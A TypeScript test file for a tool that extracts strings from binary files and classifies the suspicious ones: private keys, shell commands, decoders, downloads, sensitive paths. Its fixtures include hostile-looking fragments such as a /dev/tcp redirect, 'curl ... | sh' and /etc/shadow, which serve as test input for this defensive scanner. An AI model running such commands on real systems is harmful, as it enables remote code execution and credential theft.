import { strict as assert } from 'node:assert'
import type { SideEvidence } from '../../../server/core/evidence/evidence'
import { readEvidence } from '../../../server/core/evidence/readEvidence'
import { fromLatin1 } from '../../../server/core/model/path'
import { bytesOf } from '../formats/structure/samples'

function sideOf(text: string | Uint8Array, old?: string): SideEvidence {
  const bytes = typeof text === 'string' ? fromLatin1(text) : text
  const evidence = readEvidence({
    path: 'a.bin',
    ...(old === undefined ? {} : { old: { bytes: fromLatin1(old), hash: 'old' } }),
    new: { bytes, hash: 'new' },
  })
  assert.ok(evidence.new)
  return evidence.new
}

const mattersOf = (text: string) => sideOf(`\0\x01${text}\0`).strings.find(one => one.matters !== undefined)?.matters

describe('strings that matter', () => {
  const kinds: readonly (readonly [string, readonly string[]])[] = [
    ['key', ['-----BEGIN OPENSSH PRIVATE KEY-----', 'ssh-ed25519 AAAAC3NzaC1lZDI1']],
    [
      'command',
      [
        'cat x | /bin/sh',
        'sh -c "echo"',
        'chmod +x "$f"',
        'rm -rf build',
        'eval "$i"',
        'exec 3<>/dev/tcp/a/1',
        'x 2>&1 | tee',
      ],
    ],
    ['decoder', ['base64 -d', 'xz -dc < in', 'head -c 1024', "tr 'a-z' 'n-za-m'", '/usr/bin/unxz', 'sed -n 1p f']],
    ['download', ['curl -s file', 'wget -q', 'use curl']],
    ['script', ['#!/usr/bin/python3', '<?php echo 1;', "require('fs')", 'import os']],
    ['interpreter', ['/bin/sh', '/usr/bin/env', 'cmd.exe']],
    ['environment', ['LD_PRELOAD', 'HOME=$HOME', 'NPM_TOKEN', 'NODE_OPTIONS']],
    ['address', ['http://host.invalid/x', '10.20.30.40', '172.16.254.1:8080', 'cdn.example.invalid']],
    ['path', ['/etc/passwd', '/home/user/x', '~/.bashrc', 'C:\\Users\\x\\y', '/tmp/a1b2']],
  ]
  for (const [kind, texts] of kinds)
    it(`finds: ${kind}`, () => {
      for (const text of texts) assert.equal(mattersOf(text), kind, text)
    })

  it('leaves names of functions, formats, versions and chance alone', () => {
    const names = ['base64_encode', 'curl_easy_init', 'PyEval_EvalCode', 'evaluate', '%s: cannot open %s', '1.2.3.4']
    for (const name of [...names, 'x|K#pq9$z', 'unxz.c', 'trade "', 'GLIBC_2.14'])
      assert.equal(mattersOf(name), undefined, name)
  })

  it('finds them in UTF-16 and deep in a long line, with their place', () => {
    const wide = bytesOf(1, 2, ...[...'sh -c "x"'].map(char => bytesOf(char, 0)), 9, 9)
    assert.deepEqual(sideOf(wide).strings, [{ offset: 2, length: 18, text: 'sh -c "x"', matters: 'command' }])
    const [deep] = sideOf(`${'x'.repeat(5000)} curl -s host.invalid | sh`).strings
    assert.equal(deep?.matters, 'command')
    assert.match(deep?.text ?? '', /\| sh/)
    assert.ok((deep?.text.length ?? 0) <= 200)
  })

  it('puts what is new on this side first, and the gravest kind before others', () => {
    const { strings, stringCount } = sideOf(
      'the words of old\0/etc/hosts\0| sh -c ls\0/etc/shadow\0base64 -d\0',
      'the words of old\0| sh -c ls\0/etc/hosts\0',
    )
    assert.deepEqual(
      strings.map(({ text, isNew }) => [text, isNew]),
      [
        ['base64 -d', true],
        ['/etc/shadow', true],
        ['| sh -c ls', false],
        ['/etc/hosts', false],
        ['the words of old', false],
      ],
    )
    assert.equal(stringCount, 5)
  })

  it('shows few of many alike, and none twice', () => {
    const many = Array.from({ length: 3000 }, (_, index) => `/usr/lib/part${index}`).join('\0')
    const { strings, stringCount } = sideOf(`${many}\0${many}\0eval "$x"\0`)
    assert.equal(stringCount, 6001)
    assert.equal(strings[0]?.matters, 'command')
    assert.ok(strings.length <= 200)
    assert.equal(new Set(strings.map(({ text }) => text)).size, strings.length)
  })

  it('says where it stopped sorting a file made of nothing else', () => {
    const { notes, strings } = sideOf(
      Uint8Array.from({ length: 12 << 20 }, (_, at) => (at % 64 === 63 ? 0 : at % 8 ? 0x7c : 0x24)),
    )
    assert.ok(
      notes.some(note => /strings beyond offset \d+ were counted/.test(note)),
      notes.join('; '),
    )
    assert.ok(strings.length <= 200)
  })
})
